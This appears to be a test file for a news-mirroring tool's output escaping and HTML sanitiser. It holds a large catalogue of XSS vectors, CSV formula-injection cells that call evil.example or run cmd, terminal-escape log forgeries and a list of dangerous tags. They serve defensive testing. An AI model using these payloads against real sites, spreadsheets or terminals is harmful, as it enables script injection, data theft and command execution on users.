// Hostile text in every output (issue 17, class 4, the Markdown, CSV and log parts): titles carrying Markdown or
// HTML, newlines, bidi overrides and 100 KB; body markup from every XSS class through the transform's sanitiser;
// CSV cells a spreadsheet would run; terminal escapes in log lines. The Markdown is checked rendered the most
// permissive way (GFM with raw HTML passed through and no sanitising), so no later layer is relied on.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { toHtml } from 'hast-util-to-html';
import rehypeStringify from 'rehype-stringify';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { mirrorSchema } from '../../src/config/options.ts';
import { createLogger } from '../../src/internal/log.ts';
import { MAX_TITLE_CHARS } from '../../src/pipeline/render/escape.ts';
import {
  type IndexEntry,
  renderChannelCsv,
  renderChannelIndexes,
  renderFeed,
  renderHome,
  renderPage,
  toMarkdown,
} from '../../src/pipeline/render/index.ts';
import { transformArticle } from '../../src/pipeline/transform/index.ts';
import { sanitizeBody } from '../../src/pipeline/transform/sanitize.ts';
import type { Article } from '../../src/pipeline/types.ts';

const NOW = new Date('2024-05-20T12:00:00Z');
const PAGE_URL = 'https://news.example.org/a/1.html';
const BIDI_AND_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE_TITLES: Record<string, string> = {
  'Markdown link to javascript:':
    '新闻 [点我](javascript:alert(1)) ](javascript:alert(2)) ![x](javascript:alert(3))',
  'raw HTML': '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>',
  'newlines starting blocks': '标题\n# 假标题\n\n| a | b |\n| - | - |\n<script>alert(1)</script>\n---',
  'RTL override': '正常标题\u202Egpj.exe\u202C \u2066隔离\u2069 \u202Bembed',
  'terminal escapes': 'title\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u009b31m',
  'autolinks and references': '<https://evil.example> [x][1]\n\n[1]: javascript:alert(1)',
  '100 KB': `长${'标题'.repeat(50_000)}`,
};

const mirror = mirrorSchema.parse({ title: '镜像', publicUrl: 'https://github.com/someone/news/blob/main' });

function article(title: string, body: Root = { type: 'root', children: [] }): Article {
  return { id: 'n1', siteId: 's', url: PAGE_URL, channels: ['china'], title, body };
}

function entries(title: string): IndexEntry[] {
  return [
    { id: 'n1', title, path: 'pages/china/n1.md', published: '2024-05-01T00:00:00Z', channelId: 'china' },
  ];
}

const EXECUTABLE = new Set([
  'script',
  'iframe',
  'object',
  'embed',
  'style',
  'frame',
  'frameset',
  'base',
  'form',
  'meta',
  'link',
  'svg',
  'math',
  'input',
  'button',
  'textarea',
  'select',
  'video',
  'audio',
  'source',
  'template',
  'noscript',
  'applet',
  'portal',
  'image',
  'use',
  'animate',
  'set',
  'xmp',
  'plaintext',
  'noembed',
  'title',
]);
const URL_PROPERTIES = [
  'href',
  'src',
  'action',
  'formAction',
  'poster',
  'background',
  'data',
  'xLinkHref',
  'cite',
];
const SCRIPT_URL = /^[\s\u0000-\u001f]*(javascript|vbscript|livescript|data)\s*:/i;

/** What could run or load from elsewhere when `markdown` is rendered with raw HTML kept and nothing sanitised. */
function dangers(markdown: string): string[] {
  return dangersInHtml(
    String(
      unified()
        .use(remarkParse)
        .use(remarkGfm)
        .use(remarkRehype, { allowDangerousHtml: true })
        .use(rehypeStringify, { allowDangerousHtml: true })
        .processSync(markdown),
    ),
  );
}

/** The same for HTML as a browser parses it (bundles carry the sanitised body as HTML, not Markdown). */
function dangersInHtml(html: string, loads = true): string[] {
  const found: string[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (node: Element) => {
    if (EXECUTABLE.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties ?? {})) {
      const text = Array.isArray(value) ? value.join(' ') : String(value);
      if (/^on/i.test(name)) found.push(`${node.tagName} ${name}`);
      if (name === 'style' || name === 'srcSet' || name === 'srcDoc') found.push(`${node.tagName} ${name}`);
      if (URL_PROPERTIES.includes(name) && SCRIPT_URL.test(text))
        found.push(`${node.tagName} ${name}=${text}`);
      // A load from a foreign host: anything but a link the reader follows.
      if (
        loads &&
        node.tagName !== 'a' &&
        URL_PROPERTIES.includes(name) &&
        /^\s*(https?:)?\/\//i.test(text)
      ) {
        found.push(`${node.tagName} ${name}=${text}`);
      }
    }
  });
  return found;
}

describe('hostile titles in pages, indexes, home and feed', () => {
  for (const [name, title] of Object.entries(HOSTILE_TITLES)) {
    test(name, () => {
      const page = renderPage(article(title), {
        mirror,
        pagePath: 'pages/china/n1.md',
        channelTitle: '中国',
      });
      const indexes = renderChannelIndexes({ id: 'china', title: '中国' }, entries(title), {
        mirror,
        now: NOW,
      });
      const home = renderHome(mirror, [{ id: 'china', title: '中国', count: 1 }], entries(title), NOW);
      const outputs: Record<string, string> = { page, home };
      for (const file of indexes) outputs[file.path] = String(file.content);
      for (const [output, markdown] of Object.entries(outputs)) {
        assert.deepEqual(dangers(markdown), [], output);
        assert.doesNotMatch(markdown, BIDI_AND_CONTROLS, `${output}: no control or bidi override`);
        assert.ok(markdown.length < MAX_TITLE_CHARS * 6 + 4_000, `${output}: ${markdown.length} characters`);
      }
      // The title is the first line: one heading, nothing after it on that line starts another block.
      const [first, second] = page.split('\n');
      assert.match(first, /^### /);
      assert.equal(second, '');
      // In a table, the title stays in one cell of one row.
      const rows = outputs['indexes/china.md'].split('\n').filter((line) => line.startsWith('|'));
      assert.equal(rows.length, 3, 'header, delimiter, one entry');

      const xml = renderFeed(mirror, entries(title), NOW);
      assert.equal(XMLValidator.validate(xml), true, 'the feed stays valid XML');
      const feed = new XMLParser({ ignoreAttributes: false }).parse(xml).feed;
      // type="html": a feed reader renders the title's text as HTML; what it renders must be text only.
      const tree = fromHtml(String(feed.entry.title['#text'] ?? feed.entry.title), { fragment: true });
      assert.ok(
        tree.children.every((node) => node.type === 'text'),
        `feed title is text: ${JSON.stringify(tree.children.map((node) => node.type))}`,
      );
      const shown = tree.children.map((node) => (node.type === 'text' ? node.value : '')).join('');
      assert.doesNotMatch(shown, BIDI_AND_CONTROLS);
      assert.ok(Array.from(shown).length <= MAX_TITLE_CHARS, `${shown.length}`);
    });
  }

  test('a long title is cut on a character boundary with an ellipsis, the same in every output', () => {
    const page = renderPage(article(`${'😀'.repeat(MAX_TITLE_CHARS)}x`), {
      mirror,
      pagePath: 'pages/china/n1.md',
      channelTitle: '中国',
    });
    assert.ok(page.startsWith(`### ${'😀'.repeat(MAX_TITLE_CHARS - 1)}…\n`));
    assert.doesNotMatch(page, /[\ud800-\udbff](?![\udc00-\udfff])/, 'no lone surrogate');
  });
});

describe('channel CSV', () => {
  test('cells a spreadsheet would run as formulas are neutralised', () => {
    const titles = [
      '=HYPERLINK("https://evil.example/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '=1,"2"\n=3',
    ];
    const csv = renderChannelCsv(titles.map((title, n) => ({ ...entries(title)[0], id: `n${n}` })));
    const cells = parseCsv(csv).map((row) => row[1]);
    assert.equal(cells.length, titles.length);
    for (const cell of cells) assert.match(cell, /^'|^[^=+\-@\t\r]/, `inert: ${JSON.stringify(cell)}`);
    // Ids a URL chose may start with those characters too.
    const ids = parseCsv(renderChannelCsv([{ ...entries('t')[0], id: '=1+2' }])).map((row) => row[0]);
    assert.deepEqual(ids, ["'=1+2"]);
    // Ordinary titles are untouched.
    assert.equal(renderChannelCsv(entries('普通标题 - 副标题')), 'n1,普通标题 - 副标题\n');
  });

  test('titles are one line, without controls, and bounded', () => {
    const csv = renderChannelCsv(entries(`a\nb\u202e${'c'.repeat(100_000)}`));
    assert.equal(csv.split('\n').length, 2);
    assert.doesNotMatch(csv, BIDI_AND_CONTROLS);
    assert.ok(csv.length < MAX_TITLE_CHARS * 4);
  });
});

/** RFC 4180 rows. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  const pattern = /("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/g;
  let row: string[] = [];
  for (const match of csv.matchAll(pattern)) {
    if (match[0] === '') break;
    const cell = match[1].startsWith('"') ? match[1].slice(1, -1).replaceAll('""', '"') : match[1];
    row.push(cell);
    if (match[2] !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('log lines', () => {
  const hostile =
    'title\u001b[2J\u001b[1;1H\u001b]0;pwned\u0007\rforged line\nerror fake\u009b31m\u202eevil\u2028';
  const lines = (json: boolean) => {
    const written: string[] = [];
    const log = createLogger({ json, level: 'debug', write: (line) => written.push(line) });
    log.warn(`article failed: ${hostile}`, { url: `https://x.example/${hostile}`, title: hostile, n: 1 });
    return written;
  };

  test('terminal escapes, CR/LF and bidi controls from page content are written as visible escapes', () => {
    const [line, ...more] = lines(false);
    assert.deepEqual(more, []);
    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    assert.match(line, /\\x1b\[2J/);
    assert.match(line, /\\x0d/);
    assert.match(line, /\\u202e/);
  });

  test('JSON lines stay one parseable line with no raw C1 or bidi control', () => {
    const [line, ...more] = lines(true);
    assert.deepEqual(more, []);
    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    const parsed = JSON.parse(line);
    assert.equal(parsed.title, hostile, 'the value reads back exactly');
  });
});

describe('hostile body markup through the transform (every XSS class)', () => {
  const VECTORS: Record<string, string> = {
    'event handlers':
      '<img src="x.png" onerror="alert(1)"><p onclick="alert(1)" onmouseover="alert(1)">p</p><details open ontoggle="alert(1)">d</details><body onload="alert(1)">',
    'javascript: URLs, encoded':
      '<a href="javascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java&#x09;script:alert(1)">c</a><a href=" JAVASCRIPT:alert(1)">d</a><a href="vbscript:msgbox(1)">e</a>',
    'data: URLs':
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"><iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    'SVG namespace confusion':
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><img src=x onerror=alert(1)></foreignObject><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    'MathML namespace confusion':
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><math href="javascript:alert(1)">m</math>',
    'mutation XSS':
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'comments and CDATA':
      '<!--><img src=x onerror=alert(1)>--><p><![CDATA[><img src=x onerror=alert(1)>]]></p>',
    '<base> and <meta refresh>':
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><p><a href="rel.html">rel</a></p>',
    forms:
      '<form action="https://evil.example/"><input name="password" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</option></select></form>',
    'CSS url() and styles':
      '<p style="background:url(https://evil.example/x.png)">p</p><div style="behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml)">d</div><style>@import url(https://evil.example/x.css)</style><link rel="stylesheet" href="https://evil.example/x.css">',
    'foreign loads':
      '<img srcset="https://evil.example/a.png 1x"><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><table background="https://evil.example/t.png"><tr><td>t</td></tr></table>',
    'frames and templates':
      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><template><img src=x onerror=alert(1)></template><frameset><frame src="javascript:alert(1)"></frameset><portal src="https://evil.example/"></portal>',
    'raw-text elements': '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
    'Markdown written as text':
      '<p>[x](javascript:alert(1)) ![y](https://evil.example/t.png) &lt;img src=x onerror=alert(1)&gt; <span>&lt;script&gt;alert(1)&lt;/script&gt;</span></p>',
  };

  for (const [name, html] of Object.entries(VECTORS)) {
    test(name, () => {
      const vector = `<p>正文第一段。</p>${html}<p>正文最后一段。</p>`;
      const body = fromHtml(vector, { fragment: true });
      for (const images of ['mirror', 'hotlink'] as const) {
        const transformed = transformArticle(
          { title: 't', body, method: 'rules', ruleMisses: [], canonicalUrl: PAGE_URL },
          {
            pagePath: 'pages/china/n1.md',
            links: 'keep',
            mirroredPath: () => undefined,
            images,
            // A mirrored copy for x.png, so the image element itself survives and its attributes are checked.
            assetPath: (src) => (src.endsWith('/x.png') ? 'assets/ab/x.png' : undefined),
            script: 'original',
          },
        );
        const markdown = toMarkdown(transformed.body);
        const html = toHtml(transformed.body);
        const found = [...dangers(markdown), ...dangersInHtml(html)].filter(
          // hotlink loads each image from where the page had it, by the operator's choice; nothing else may load.
          (danger) => !(images === 'hotlink' && /^img src=https?:\/\//.test(danger)),
        );
        assert.deepEqual(found, [], `${images}: ${html}`);
        // The sanitiser alone holds too: it is the last guard, whatever the steps before it let through.
        // (Which images load is the image policy's part, checked above.)
        const alone = toHtml(sanitizeBody(fromHtml(vector, { fragment: true })));
        assert.deepEqual(dangersInHtml(alone, false), [], `sanitiser alone: ${alone}`);
        // The text before survives (an unclosed <style> or <plaintext> rightly swallows what follows it).
        assert.match(markdown, /正文第一段/, 'the text around survives');
      }
    });
  }
});
